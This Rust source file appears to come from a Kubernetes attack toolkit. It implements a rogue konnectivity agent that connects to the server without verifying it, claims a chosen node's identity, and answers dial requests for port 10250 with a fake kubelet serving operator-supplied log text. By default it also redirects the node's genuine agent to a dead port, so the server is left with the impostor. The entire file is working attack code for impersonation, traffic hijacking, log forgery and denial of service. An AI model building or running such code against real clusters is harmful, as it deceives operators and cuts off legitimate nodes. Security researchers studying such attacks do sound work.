//! A konnectivity agent nobody deployed: it says it is a node's, and whoever the API server then wants to dial
//! there gets a fake kubelet.
//!
//! Where it stands on the wire it also keeps the node's own agent away: that one is led to a place where
//! nobody answers, so that the server is left with the rogue.

use std::collections::HashMap;
use std::net::SocketAddrV4;
use std::sync::Arc;

use clap::Args;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt, DuplexStream, WriteHalf};
use tokio::sync::Mutex;
use tokio_rustls::TlsAcceptor;
use tokio_util::sync::CancellationToken;
use tonic::Request;
use tonic::metadata::MetadataValue;

use super::kubelet::{self, told_to_end};
use super::redirect::{redirect, standing};
use super::say;
use crate::client::Backoff;
use crate::net::{Direct, Identity, Protocols, ServingCert, TlsDialer, Verify, client_config};
use crate::pki;
use crate::tunnel::packet::{DialRequest, Message, Packet};
use crate::tunnel::rpc::{self, Outbox};

const BUFFER: usize = 64 * 1024;

#[derive(Debug, Args)]
pub struct RogueAgent {
    /// The server: ADDRESS:PORT
    server: SocketAddrV4,
    /// Whose agent it says it is (`ipv4=192.0.2.11`)
    #[arg(long)]
    identifiers: String,
    /// What every log says
    #[arg(long)]
    log: String,
    /// Leave the other agents alone
    #[arg(long)]
    quiet: bool,
}

impl RogueAgent {
    pub async fn run(self) -> anyhow::Result<()> {
        let away = match self.quiet {
            true => None,
            // A port of this host on which nobody listens.
            false => Some(redirect(self.server, SocketAddrV4::new(standing(), 1))?),
        };
        let issued = pki::self_signed_serving("node")?;
        let identity = Identity { cert_pem: issued.cert_pem.into(), key_pem: issued.key_pem.into() };
        let kubelet = Kubelet {
            acceptor: TlsAcceptor::from(ServingCert::new(&identity)?.server_config(Protocols::H1)?),
            log: format!("{}\n", self.log).into(),
        };
        say(&json!({"event": "ready"}));
        let again = async {
            let mut backoff = Backoff::new();
            loop {
                match self.join(&kubelet).await {
                    Ok(()) => {}
                    Err(Ended::Unanswered(why)) => say(&json!({"event": "no answer", "why": why})),
                    Err(Ended::TurnedAway(why)) => say(&json!({"event": "turned away", "why": why})),
                }
                backoff.wait().await;
            }
        };
        tokio::select! {
            () = again => {}
            () = told_to_end() => {}
        }
        drop(away);
        Ok(())
    }

    /// One stream: until it ends.
    async fn join(&self, kubelet: &Kubelet) -> Result<(), Ended> {
        let text = |error: &dyn std::fmt::Display| Ended::Unanswered(error.to_string());
        // Whose server it is is all the same to it.
        let config = client_config(&Verify::Unverified, None, Protocols::H2).map_err(|error| text(&error))?;
        let dialer = TlsDialer { road: Arc::new(Direct), config };
        let (host, port) = (self.server.ip().to_string(), self.server.port());
        let io = dialer.connect(&host, port, None).await.map_err(|error| text(&error))?;
        let (outbox, outgoing) = Outbox::new(&CancellationToken::new());
        let mut request = Request::new(outgoing);
        let value =
            |text: &str| MetadataValue::try_from(text).map_err(|error| Ended::Unanswered(error.to_string()));
        let metadata = request.metadata_mut();
        metadata.insert("agentid", value(&uuid::Uuid::new_v4().to_string())?);
        metadata.insert("agentidentifiers", value(&self.identifiers)?);
        let opened = rpc::open(io, &self.server.to_string(), rpc::CONNECT, None, request).await;
        let refused = |status: &tonic::Status| match status.code() {
            // A connection that broke is nobody's word.
            tonic::Code::Unavailable => Ended::Unanswered(status.message().to_owned()),
            _ => Ended::TurnedAway(status.message().to_owned()),
        };
        let opened = opened.map_err(|status| refused(&status))?;
        say(&json!({"event": "joined", "as": self.identifiers}));
        let (mut incoming, _connection) = (opened.incoming, opened.connection);
        let tunnels = Tunnels { outbox, kubelet: kubelet.clone(), open: Arc::default() };
        loop {
            match incoming.message().await {
                Ok(Some(packet)) => tunnels.take(packet).await,
                Ok(None) => return Ok(()),
                Err(status) => return Err(refused(&status)),
            }
        }
    }
}

/// How it ended with a server.
enum Ended {
    /// It said no.
    TurnedAway(String),
    /// Nothing at all was said.
    Unanswered(String),
}

/// What a kubelet's place is taken with.
#[derive(Clone)]
struct Kubelet {
    acceptor: TlsAcceptor,
    log: Arc<str>,
}

/// What runs over one stream.
struct Tunnels {
    outbox: Outbox,
    kubelet: Kubelet,
    open: Arc<Mutex<HashMap<i64, WriteHalf<DuplexStream>>>>,
}

impl Tunnels {
    async fn take(&self, packet: Packet) {
        match Message::from(packet) {
            Message::DialRequest(request) => self.dial(request).await,
            Message::Data(data) => {
                if let Some(write) = self.open.lock().await.get_mut(&data.connect_id) {
                    // A forgery that has ended reads no more.
                    let _ = write.write_all(&data.data).await;
                }
            }
            Message::CloseRequest { id } => drop(self.open.lock().await.remove(&id)),
            _ => {}
        }
    }

    async fn dial(&self, request: DialRequest) {
        say(&json!({"event": "asked to dial", "to": request.address}));
        let random = request.random;
        if !request.address.ends_with(":10250") {
            let _ = self.outbox.send(Message::not_dialled(random, "connection refused")).await;
            return;
        }
        let mut open = self.open.lock().await;
        let id = open.keys().max().map_or(1, |last| last + 1);
        let (near, far) = tokio::io::duplex(BUFFER);
        let (mut read, write) = tokio::io::split(near);
        open.insert(id, write);
        drop(open);
        if self.outbox.send(Message::dialled(random, id)).await.is_err() {
            return;
        }
        tokio::spawn(kubelet::serve(far, self.kubelet.acceptor.clone(), Arc::clone(&self.kubelet.log)));
        let (outbox, open) = (self.outbox.clone(), Arc::clone(&self.open));
        tokio::spawn(async move {
            let mut buffer = vec![0; BUFFER];
            while let Ok(count @ 1..) = read.read(&mut buffer).await {
                let bytes = bytes::Bytes::copy_from_slice(&buffer[..count]);
                if outbox.send(Message::data(id, bytes)).await.is_err() {
                    return;
                }
            }
            open.lock().await.remove(&id);
            let _ = outbox.send(Message::CloseResponse { id, error: String::new() }).await;
        });
    }
}
